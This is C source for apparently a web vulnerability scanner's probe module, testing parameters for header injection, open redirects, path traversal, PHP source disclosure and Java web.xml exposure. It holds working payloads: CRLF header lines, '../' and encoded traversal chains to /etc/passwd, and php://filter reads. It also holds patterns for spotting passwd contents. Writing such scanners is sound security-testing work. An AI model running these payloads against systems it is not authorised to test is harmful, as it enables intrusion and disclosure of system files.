/* SPDX-License-Identifier: Apache-2.0 */
/* web_probe_other - what a parameter can do besides. */
#include "survey/web/web_probe_other.h"

#include "survey/web/web_probe_compute.h"
#include "survey/web/web_probe_relay.h"

#include <string.h>

static bool has(struct str s, struct str part)
{
	return part.n && s.n >= part.n && memmem(s.p, s.n, part.p, part.n);
}

static struct str field(const struct web_probe_page *page, const char *name)
{
	return http_head_field(page->head, name);
}

/* A line of /etc/passwd, and nothing of what it says. */
static bool has_passwd(struct str body)
{
	for (size_t at = 0; (at += str_find(str_from(body, at), 'r')) < body.n; at++) {
		struct str rest = str_from(body, at);
		if (str_starts(rest, "root:x:0:0:") || str_starts(rest, "root:*:0:0:") ||
		    str_starts(rest, "root:!:0:0:"))
			return true;
	}
	return false;
}

/* What stands behind "https://" in the address that the page redirects to. */
static struct str host_of(struct str place)
{
	size_t at = str_find(place, ':');
	return at < place.n && str_starts(str_from(place, at), "://") ? str_from(place, at + 3)
								      : STR("");
}

/* Whether "/" and the value is all of the address. */
static bool is_rooted(const struct web_probe *p, struct str place)
{
	return p->value.n && str_starts(place, "/") &&
	       str_eq(str_head(str_from(place, 1), p->value.n), p->value);
}

/* A Java application's own description, which it serves to nobody. */
static bool has_web_xml(struct str body)
{
	return has(body, STR("<web-app"));
}

void web_probe_other_see(struct web_probe *p, const struct web_probe_page *page, struct str mark,
			 struct web_probe_other *ret)
{
	*ret = (struct web_probe_other){ .is_in_header = has(page->head, mark),
					 .is_in_place = has(field(page, "location"), mark) ||
							has(field(page, "refresh"), mark),
					 .is_host = p->value.n &&
						    str_starts(host_of(field(page, "location")),
							       str_text(p->arena, p->value)),
					 .is_rooted = is_rooted(p, field(page, "location")),
					 .is_in_page = has(page->body, mark),
					 .has_passwd = has_passwd(page->body),
					 .has_web_xml = has_web_xml(page->body) };
}

static void tell(struct web_probe *p, const char *class, const char *technique,
		 const struct web_probe_page *probe, const char *evidence)
{
	web_probe_tell(p, &(struct web_probe_result){ .group = WEB_PROBE_OTHER,
						      .class = class,
						      .technique = technique,
						      .probe = probe->request,
						      .control = p->original.request,
						      .evidence = evidence,
						      .is_confirmed = true });
}

/* A line end in the value begins a field of its own. */
static void try_header(struct web_probe *p)
{
	const char *word = web_probe_word(p);
	struct web_probe_page page;
	struct str value = str_of(arena_printf(p->arena, "%.*s\r\nX-%s: %s", (int)p->value.n,
					       p->value.p, word, word));
	const char *name = arena_printf(p->arena, "X-%s", word);
	if (web_probe_ask(p, value, &page) && str_is(field(&page, name), word))
		tell(p, "header-injection", "line end in a header", &page,
		     str_text(p->arena, str_of(arena_printf(p->arena, "%s: %s", name, word))));
}

/* Where the page goes by itself: by its head, a script or <meta>. */
static struct str journey_of(struct web_probe *p, const struct web_probe_page *page,
			     const char *word)
{
	if (page->status >= 300 && page->status < 400)
		return field(page, "location");
	struct str refresh = http_head_refresh(field(page, "refresh"));
	return has(refresh, str_of(word)) ? refresh : str_of(web_probe_xss_journey(p, page, word));
}

/* The addresses of such a host, and where each stands in what the page redirects to. */
enum start { HOST, HTTPS, SLASHES, BACKSLASH, ROOTED, OWN_HOST, WITH_VALUE, STARTS };

/* "https://host" of a whole address; empty: it is none. */
static struct str origin_of(struct str value)
{
	struct str host = host_of(value);
	return str_head(value, host.n ? (size_t)(host.p - value.p) + str_find(host, '/') : 0);
}

/* NULL: it makes no sense here. */
static const char *start_of(struct web_probe *p, enum start which, const char *word,
			    const struct web_probe_other *o, bool goes)
{
	struct str v = p->value, origin = origin_of(v);
	switch (which) {
	case HOST: return o->is_host || goes ? arena_printf(p->arena, "%s.invalid/", word) : NULL;
	case HTTPS: return arena_printf(p->arena, "https://%s.invalid/", word);
	case SLASHES: return arena_printf(p->arena, "//%s.invalid/", word);
	case BACKSLASH:
		return str_starts(v, "/") ? arena_printf(p->arena, "/\\%s.invalid/", word) : NULL;
	case ROOTED: return o->is_rooted ? arena_printf(p->arena, "/%s.invalid/", word) : NULL;
	case OWN_HOST: /* where only the beginning is looked at */
		return origin.n ? arena_printf(p->arena, "%.*s.%s.invalid/", (int)origin.n,
					       origin.p, word)
				: NULL;
	case WITH_VALUE:
		return v.n ? arena_printf(p->arena, "https://%s.invalid/?%.*s", word, (int)v.n, v.p)
			   : NULL;
	case STARTS: break;
	}
	return NULL;
}

/* The site sends the visitor to a host of somebody else's choice: one that cannot exist. */
static void try_redirect(struct web_probe *p, const struct web_probe_other *o, bool goes)
{
	for (enum start i = 0; i < STARTS; i++) {
		const char *word = web_probe_word(p), *value = start_of(p, i, word, o, goes);
		struct web_probe_page page;
		if (!value || !web_probe_ask(p, str_of(value), &page))
			continue;
		struct str place = journey_of(p, &page, word);
		struct str front = i == HOST	 ? host_of(place)
				   : i == ROOTED ? str_from(place, MIN(place.n, 1))
						 : place;
		if (str_is_nocase(str_head(front, strlen(value)), value)) {
			tell(p, "open-redirect", "redirect to another host", &page,
			     str_text(p->arena, place));
			return;
		}
	}
}

/* Whether the value names a file, or the field does. */
static bool is_file_like(const struct web_probe *p)
{
	static const char *const names[] = { "file",	 "path",    "page", "doc",
					     "template", "include", "load", "view",
					     "dir",	 "folder",  "lang", "target" };
	autoarena a = ARENA(4096);
	const struct web_point_field *f = &p->point->field[p->nth];
	const char *name = str_lower(&a, str_head(f->name, 64));
	struct str v = p->value;
	size_t dot = str_find(v, '.');
	if (dot < v.n && v.n - dot > 2 && v.n - dot < 6 && (v.p[dot + 1] | 32) >= 'a')
		return true;
	for (size_t i = 0; name && i < N(names); i++)
		if (strstr(name, names[i]) &&
		    (f->is_guessed || (v.n && ((v.p[0] | 32) >= 'a' || v.p[0] == '/'))))
			return true;
	return false;
}

/* The value up to its last slash: what the page may want to see in front. */
static struct str folder_of(struct str value)
{
	while (value.n && value.p[value.n - 1] != '/')
		value.n--;
	return value;
}

static const char up[] = "../../../../../../../../../../../../";
/* Where "../" is taken out, once. */
static const char twice[] = "....//....//....//....//....//....//....//....//....//....//";

static const char coded[] =
	"%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f";

static bool try_file(struct web_probe *p)
{
	struct str folder = folder_of(p->value);
	const char *tries[] = {
		arena_printf(p->arena, "%.*s%setc/passwd", (int)folder.n, folder.p, up),
		"/etc/passwd",
		arena_printf(p->arena, "%.*s/%setc/passwd", (int)folder.n, folder.p, twice),
		/* behind the name of a folder, without a slash between */
		folder.n ? NULL : arena_printf(p->arena, "/%setc/passwd", up),
		/* where it must begin as it does */
		p->value.n ? arena_printf(p->arena, "%.*s/%setc/passwd", (int)p->value.n,
					  p->value.p, up)
			   : NULL,
		"file:///etc/passwd",
		/* where it is decoded once more */
		arena_printf(p->arena, "%.*s%setc%%2fpasswd", (int)folder.n, folder.p, coded),
	};
	struct web_probe_page page;
	for (size_t i = 0; i < N(tries); i++) {
		if (!tries[i] || !web_probe_ask(p, str_of(tries[i]), &page) ||
		    !has_passwd(page.body))
			continue;
		tell(p, "path-traversal", "a file outside the site", &page, "root:…:0:0:");
		return true;
	}
	return false;
}

/* A page of PHP, read and not run: "<?php" as base64. The ending may be the page's own to add. */
static bool try_source(struct web_probe *p)
{
	static const struct str opening = { "PD9waH", 6 };
	struct web_probe_page page, original;
	const char *value = arena_printf(p->arena,
					 "php://filter/convert.base64-encode/resource=%.*s",
					 (int)p->value.n, p->value.p);
	if (!p->value.n || !web_probe_ask(p, str_of(value), &page) || !has(page.body, opening) ||
	    !web_probe_ask_original(p, &original) || has(original.body, opening))
		return false;
	tell(p, "path-traversal", "the source of a page", &page, "<?php …");
	return true;
}

/* Folders of the page's address, from the application's own on. */
static size_t depth_of(const char *url)
{
	size_t n = 0;
	for (const char *c = url; *c; c++)
		n += *c == '/';
	return n > 4 ? n - 4 : 0; /* https://host/application/page */
}

/* Java reads from within its application only, but from all of it. */
static void try_web_xml(struct web_probe *p)
{
	size_t depth = depth_of(p->point->url);
	const char *root = str_starts(p->value, "/") ? "/" : "";
	const char *tries[] = {
		"/WEB-INF/web.xml",
		arena_printf(p->arena, "%s%.*sWEB-INF/web.xml", root, (int)(3 * MIN(depth, 12)),
			     up),
		depth ? arena_printf(p->arena, "/%.*sWEB-INF/web.xml", (int)(6 * MIN(depth, 10)),
				     twice)
		      : NULL,
		depth && !*root ? arena_printf(p->arena, "/%.*sWEB-INF/web.xml",
					       (int)(3 * MIN(depth, 12)), up)
				: NULL,
	};
	struct web_probe_page page;
	for (size_t i = 0; i < N(tries); i++) {
		if (!tries[i] || !web_probe_ask(p, str_of(tries[i]), &page) ||
		    !has_web_xml(page.body))
			continue;
		tell(p, "path-traversal", "a file that is not served", &page, "<web-app");
		return;
	}
}

/* What its addresses end with tells what a page is written in; where a folder is asked for, it is
 * PHP more often than not. */
static const char *const java_endings[] = { ".jsp", ".do", ".action", NULL };
static const char *const php_endings[] = { ".php", "/", NULL };

static bool ends_as(const char *url, const char *const *endings)
{
	struct str path = str_head(str_of(url), strcspn(url, ";"));
	while (*endings && !str_ends(path, *endings))
		endings++;
	return *endings != NULL;
}

void web_probe_other(struct web_probe *p, const struct web_probe_other *o,
		     const struct web_probe_xss *x)
{
	bool goes = web_probe_xss_goes(x);
	enum web_point_place where = p->point->field[p->nth].place;
	if (o->is_in_header)
		try_header(p);
	if (where == WEB_POINT_PATH || where == WEB_POINT_HEADER) {
		/* Nobody else's link makes a visitor send such a one. */
		if (o->is_in_page && !p->is_found[WEB_PROBE_SQL])
			web_probe_compute_shown(p);
		return;
	}
	if (o->is_in_place || goes || str_starts(p->value, "http") || str_starts(p->value, "/"))
		try_redirect(p, o, goes);
	if (o->is_in_page && !p->is_found[WEB_PROBE_SQL])
		web_probe_compute_shown(p);
	if (!p->is_found[WEB_PROBE_OTHER] && !p->is_found[WEB_PROBE_SQL])
		web_probe_compute_command(p);
	bool is_file = is_file_like(p), is_php = ends_as(p->point->url, php_endings);
	if (!o->is_in_place && !goes && web_probe_relay(p, is_file && is_php))
		is_file = true;
	if (!is_file || (!o->has_passwd && try_file(p)) || (is_php && try_source(p)))
		return;
	if (!o->has_web_xml && ends_as(p->point->url, java_endings))
		try_web_xml(p);
}
